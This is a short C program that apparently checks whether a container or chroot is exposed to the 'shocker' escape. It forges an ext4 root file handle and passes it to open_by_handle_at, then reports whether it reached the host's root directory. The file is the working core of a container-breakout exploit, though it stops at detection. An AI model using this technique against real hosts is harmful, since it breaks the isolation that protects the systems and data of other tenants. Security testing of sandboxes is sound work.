// SPDX-License-Identifier: BSD-2-Clause
// "shocker": open_by_handle_at(2) walks from a handle to any inode of the
// filesystem, outside the container's root.  Root's handle (inode 2 on ext4)
// opens the host's / from a chroot.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    struct { struct file_handle fh; unsigned char bytes[MAX_HANDLE_SZ]; } h;
    struct stat root, got;
    int mount_id, mfd = open("/", O_RDONLY | O_DIRECTORY);
    if (mfd < 0 || fstat(mfd, &root) < 0) { perror("open /"); return 2; }
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0) < 0) {
        // Forge ext4's root handle: FILEID_INO32_GEN, inode 2, generation 0.
        printf("name_to_handle_at: %s; forging a handle\n", strerror(errno));
        h.fh.handle_type = 1;
        h.fh.handle_bytes = 8;
    }
    if (h.fh.handle_type == 1 && h.fh.handle_bytes >= 8) {
        unsigned ino = 2, gen = 0;
        memcpy(h.fh.f_handle, &ino, 4);
        memcpy(h.fh.f_handle + 4, &gen, 4);
    }
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (fd >= 0) {
        fstat(fd, &got);
        printf("open_by_handle_at opened inode %lu (our / is %lu)%s\n",
               (unsigned long)got.st_ino, (unsigned long)root.st_ino,
               got.st_ino != root.st_ino || got.st_dev != root.st_dev ? ": OUTSIDE the root" : "");
        return 1;
    }
    printf("open_by_handle_at: %s\n", strerror(errno));
    return errno == EPERM || errno == ENOSYS ? 0 : 2;
}
